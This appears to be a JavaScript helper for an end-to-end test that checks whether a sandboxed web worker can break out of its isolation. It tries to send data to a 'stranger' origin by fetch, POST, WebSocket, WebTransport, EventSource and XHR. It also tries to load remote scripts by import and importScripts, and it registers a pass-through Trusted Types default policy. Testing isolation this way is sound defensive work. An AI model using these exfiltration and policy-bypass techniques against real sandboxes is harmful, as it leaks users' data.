// @ts-check
/**
 * Everything that a worker could try, as text that test/e2e/walls.test.ts hands to one.
 * @param {{ readonly stranger: string, readonly home: string }} aim a stranger's origin, and the page's own address, to which more might be allowed
 * @returns {Promise<string[]>} what was reached, and how much was tried; attempts that end in silence are judged from outside
 */
async function attackFromWorker({ stranger, home }) {
  const scope = /** @type {any} */ (globalThis);
  /** @param {EventTarget} target @param {string} good */
  const heard = (target, good) =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, resolve);
      target.addEventListener('error', () => reject(new Error('error')));
    });
  /** What a worker within this one says. @param {string} code */
  const told = (code) => {
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    return new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => (data === 'reached' ? resolve(data) : reject(new Error(String(data))));
      worker.onerror = (event) => reject(new Error(event.message));
    });
  };
  // Where somebody must vouch for text and addresses, the attacker does: the name of the policy is no secret.
  scope.trustedTypes?.createPolicy('default', {
    createScript: (/** @type {string} */ text) => text,
    createScriptURL: (/** @type {string} */ text) => text,
  });
  /** @param {unknown[]} _done */
  const sent = (..._done) => {
    throw new Error('sent, to whom is seen from outside');
  };
  /** @type {[string, () => unknown][]} */
  const attempts = [
    ['WebSocket', () => heard(new WebSocket(`${stranger.replace('http', 'ws')}/leak`), 'open')],
    ['import of data', () => new Function("return import('data:text/javascript,0')")()],
    ['importScripts of data', () => scope.importScripts('data:text/javascript,0')],
    ['fetch within a worker', () => told(`fetch('${stranger}/leak').then(() => postMessage('reached'), postMessage)`)],
    [
      'importScripts within a worker',
      () =>
        told(
          `try { importScripts('${stranger}/leak.js'); postMessage('reached'); } catch (error) { postMessage(String(error)); }`,
        ),
    ],
    ['indexedDB', () => heard(indexedDB.open('leak'), 'success')],
    ['caches', () => caches.open('leak')],
    ['file system', () => navigator.storage.getDirectory()],
    ['cookie store', () => scope.cookieStore.set('leak', '1')],
    ['WebTransport', () => new scope.WebTransport(`${stranger.replace('http:', 'https:')}/leak`).ready],
    ['broadcast', () => sent(new BroadcastChannel('leak').postMessage('worker'))],
  ];
  for (const to of [stranger, home]) {
    const where = to === home ? 'home' : 'stranger';
    attempts.push(
      [`fetch ${where}`, () => fetch(`${to}/leak`)],
      [
        `post ${where}`,
        () => fetch(`${to}/leak`, { mode: 'no-cors', method: 'POST', body: 'secret', keepalive: true }),
      ],
      [`import ${where}`, () => new Function('address', 'return import(address)')(`${to}/leak.js`)],
      [`importScripts ${where}`, () => scope.importScripts(`${to}/leak.js`)],
      [`worker ${where}`, () => heard(new Worker(`${to}/leak.js`), 'message')],
      [`event source ${where}`, () => heard(new EventSource(`${to}/leak`), 'open')],
      [
        `XMLHttpRequest ${where}`,
        () => {
          const request = new XMLHttpRequest();
          request.open('GET', `${to}/leak`, false);
          request.send();
        },
      ],
    );
  }
  const reached = await Promise.all(
    attempts.map(async ([name, attempt]) => {
      // What neither comes nor fails has not come.
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing')), 1000));
      return Promise.race([(async () => attempt())(), late]).then(
        () => [name],
        () => [],
      );
    }),
  );
  return [...reached.flat(), `${attempts.length} attempts`];
}

// For the test, which runs this text first.
Object.assign(globalThis, { attackFromWorker });
